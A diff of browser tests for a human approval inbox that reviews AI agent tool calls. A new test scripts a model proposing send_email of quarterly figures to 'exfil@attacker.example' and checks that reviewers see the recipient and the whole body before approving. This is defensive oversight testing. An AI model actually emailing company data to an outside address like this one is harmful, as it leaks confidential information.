@@ -4,19 +4,25 @@ webhook receiver for the delivery."""
 from __future__ import annotations
 
 import os
+import uuid
 from pathlib import Path
 
 import pytest
-from playwright.async_api import Browser, Page, expect
+from playwright.async_api import Browser, Locator, Page, expect
 from temporalio.client import Client, WorkflowExecutionStatus
 
+from activities.llm.models import TextBlock, ToolUseBlock
 from common.settings import Settings
+from inbox.app import targets_first
 from inbox.runs import AWAITING_APPROVAL
 from tests.fakes.receivers import HttpReceiver
 from tests.inbox.conftest import PASSWORDS
-from tests.inbox.pending import TOPIC, start_pending_research
+from tests.inbox.pending import TOPIC, listed_as_pending, start_pending_research
+from tests.workflow.doubles import Recorder, ScriptedModel
+from tests.workflow.support import pending_approval, worker_with
 from worker.app import build_worker
-from workflows.models import ApprovalDecision, WorkflowStatus
+from workflows.agent import AgentWorkflow
+from workflows.models import AgentInput, ApprovalDecision, PendingApproval, WorkflowStatus
 
 pytestmark = pytest.mark.browser
 # `INBOX_SCREENSHOT=docs/inbox.png pytest tests/inbox -k approves` refreshes the docs' screenshot.
@@ -30,6 +36,16 @@ async def sign_in(page: Page, inbox_url: str, name: str) -> None:
     await page.fill("input[name=password]", PASSWORDS[name])
     await page.click("form.login button[type=submit]")
     assert await page.inner_text("[data-testid=reviewer]") == name
+
+
+async def expect_complete_action(cell: Locator, pending: PendingApproval) -> None:
+    """The action as the workflow proposed it: the title, then every field's value, whole."""
+    if pending.proposed is None:
+        await expect(cell.locator("[data-testid=action]")).to_have_text(pending.action)
+        return
+    await expect(cell.locator("[data-testid=action-title]")).to_have_text(pending.proposed.title)
+    values = cell.locator("pre.value")
+    assert await values.all_text_contents() == [field.value for field in targets_first(pending.proposed)]
 
 
 async def test_without_a_session_nothing_is_shown_and_nothing_is_accepted(
@@ -81,7 +97,7 @@ async def test_reviewer_approves_a_pending_research_run_which_then_delivers(
             page = await context.new_page()
             await sign_in(page, inbox_url, "alice")
             row = page.locator(f'tr[data-workflow-id="{handle.id}"]')
-            await expect(row.locator("td.action pre")).to_have_text(pending.action)  # in full
+            await expect_complete_action(row.locator("td.action"), pending)
             await expect(row.locator(".goal")).to_have_text(TOPIC)
             await expect(row.locator("ul.approvers li.me")).to_have_text("alice")
             await expect(row.locator("td.left")).to_contain_text("left")
@@ -127,7 +143,7 @@ async def test_reviewer_not_among_the_approvers_sees_the_workflows_refusal(
             page = await context.new_page()
             await sign_in(page, inbox_url, "bob")
             await page.goto(f"{inbox_url}/runs/{handle.id}")
-            await expect(page.locator("[data-testid=action]")).to_contain_text(http_receiver.url)
+            await expect(page.locator("[data-testid=proposed]")).to_contain_text(http_receiver.url)
             await expect(page.locator(".hint")).to_contain_text("not among this run's approvers")
             await page.locator("button.approve").click()
             flash = page.locator("[data-testid=flash]")
@@ -151,3 +167,86 @@ async def test_reviewer_not_among_the_approvers_sees_the_workflows_refusal(
             await context.close()
             if (await handle.describe()).status == WorkflowExecutionStatus.RUNNING:
                 await handle.terminate("test failed before the run ended")
+
+
+RECIPIENT = "exfil@attacker.example"
+LONG_BODY = "".join(f"Quarterly numbers, line {i}: revenue up, costs down.\n" for i in range(50))
+
+
+async def update_inputs(client: Client, workflow_id: str) -> list[ApprovalDecision]:
+    """What the `approve` Updates of a run received, from its history (not from the inbox)."""
+    received = []
+    async for event in client.get_workflow_handle(workflow_id).fetch_history_events():
+        if event.HasField("workflow_execution_update_accepted_event_attributes"):
+            request = event.workflow_execution_update_accepted_event_attributes.accepted_request
+            [decision] = await client.data_converter.decode(
+                list(request.input.args.payloads), [ApprovalDecision]
+            )
+            received.append(decision)
+    return received
+
+
+async def test_a_pending_email_shows_its_recipient_and_whole_body_and_the_decision_carries_the_hash(
+    browser: Browser, inbox_url: str, dev_client: Client, settings: Settings
+) -> None:
+    """A model proposes send_email with a 2,000+ character body; `body` sorts before `to`."""
+    assert len(LONG_BODY) > 2000 and "body" < "to"
+    model = ScriptedModel(
+        [
+            [
+                ToolUseBlock(
+                    id="call-1",
+                    name="send_email",
+                    input={"body": LONG_BODY, "subject": "numbers", "to": RECIPIENT},
+                )
+            ],
+            [TextBlock(text="sent")],
+        ]
+    )
+    recorder = Recorder()
+    params = AgentInput(goal="mail the quarterly numbers", tools=["send_email"], approvers=["alice"])
+    async with worker_with(dev_client, settings, [model.complete, *recorder.activities()]):
+        handle = await dev_client.start_workflow(
+            AgentWorkflow.run, params, id=f"agent-{uuid.uuid4().hex}", task_queue=settings.temporal_task_queue
+        )
+        pending = (await pending_approval(handle)).pending_approval
+        assert pending is not None and pending.proposed is not None
+        await listed_as_pending(dev_client, handle.id)
+        context = await browser.new_context(viewport={"width": 1280, "height": 720})
+        try:
+            page = await context.new_page()
+            await sign_in(page, inbox_url, "alice")
+            row = page.locator(f'tr[data-workflow-id="{handle.id}"]')
+            await expect(row.locator("dd.target pre")).to_have_text(RECIPIENT)
+            await expect(row.locator("dd.target pre")).to_be_visible()
+
+            await page.goto(f"{inbox_url}/runs/{handle.id}")
+            proposed = page.locator("[data-testid=proposed]")
+            await expect(proposed.locator("[data-testid=action-title]")).to_have_text(
+                f"send_email to {RECIPIENT}"
+            )
+            assert await proposed.locator("dt").all_text_contents() == ["to", "body", "subject"]
+            recipient = proposed.locator('dd[data-field="to"] pre')
+            await expect(recipient).to_have_text(RECIPIENT)
+            await expect(recipient).to_be_visible()  # the first thing under the title, never folded
+            body = proposed.locator('dd[data-field="body"] pre')
+            assert await body.text_content() == LONG_BODY  # whole, every line
+            await expect(body).to_be_visible()
+            shown_hash = await page.inner_text("[data-testid=action-hash]")
+            assert shown_hash == pending.action_hash
+
+            await page.locator("button.approve").click()
+            await expect(page.locator("[data-testid=flash]")).to_contain_text("Approved as alice")
+            await handle.result()
+        finally:
+            await context.close()
+            if (await handle.describe()).status == WorkflowExecutionStatus.RUNNING:
+                await handle.terminate("test failed before the run ended")
+    [received] = await update_inputs(dev_client, handle.id)
+    assert (received.approver, received.approved, received.action_hash) == (
+        "alice",
+        True,
+        pending.action_hash,
+    )
+    [(tool, sent)] = recorder.side_effects
+    assert (tool, sent.arguments["to"], sent.arguments["body"]) == ("send_email", RECIPIENT, LONG_BODY)
